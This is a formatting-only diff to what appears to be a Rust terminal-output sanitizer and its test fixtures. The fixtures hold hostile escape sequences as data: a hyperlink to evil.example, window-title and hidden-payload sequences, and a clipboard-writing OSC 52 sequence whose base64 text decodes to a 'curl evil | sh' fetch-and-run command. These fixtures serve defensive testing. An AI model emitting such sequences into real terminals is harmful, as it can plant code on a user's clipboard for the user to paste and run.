@@ -229,7 +229,10 @@ pub fn hostile_fixtures() -> Vec<(&'static str, String)> {
             "osc 8 hyperlink",
             "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
         ),
-        ("osc 52 clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07copied"),
+        (
+            "osc 52 clipboard",
+            "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07copied",
+        ),
         ("osc window title", "\x1b]0;pwned\x07title"),
         ("dcs", "\x1bP1$r0m\x1b\\after dcs"),
         ("apc", "\x1b_hidden payload\x1b\\shown"),
@@ -269,8 +272,7 @@ pub fn hostile_fixtures() -> Vec<(&'static str, String)> {
 
 /// Printable and harmless as it is.
 fn is_plain(c: char) -> bool {
-    matches!(c, ' '..='~')
-        || (c >= '\u{a0}' && !is_bidi(c) && c != '\u{2028}' && c != '\u{2029}')
+    matches!(c, ' '..='~') || (c >= '\u{a0}' && !is_bidi(c) && c != '\u{2028}' && c != '\u{2029}')
 }
 
 fn is_control(c: char) -> bool {
@@ -528,7 +530,10 @@ mod tests {
         for huge in [&huge_plain, &huge_escapes, &huge_osc, &huge_wide] {
             for max in [1, 80, 1_000] {
                 let (text, scanned) = sanitize_counted(huge, max);
-                assert!(scanned <= scan_limit(max), "{max}: looked at {scanned} bytes");
+                assert!(
+                    scanned <= scan_limit(max),
+                    "{max}: looked at {scanned} bytes"
+                );
                 assert!(text.chars().count() <= max);
             }
         }
